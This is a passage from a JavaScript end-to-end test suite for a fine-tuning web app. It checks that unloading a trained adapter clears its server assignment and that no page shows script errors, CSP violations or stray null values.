    await page.click('[data-test=unload-adapter]');
    await page.locator('[data-test=adapter-loaded-on]', { hasText: 'no server' }).waitFor();
    assert.deepEqual((await api(`/fine-tuning/jobs/${id}`)).body.trainer.loaded_on, []);
  });

  test('nothing on any page raised a script error or a CSP violation, or printed a raw null', () => {
    assert.deepEqual(strays, [], 'no page prints null, undefined or [object Object]');
    assert.deepEqual(problems, []);
  });
});
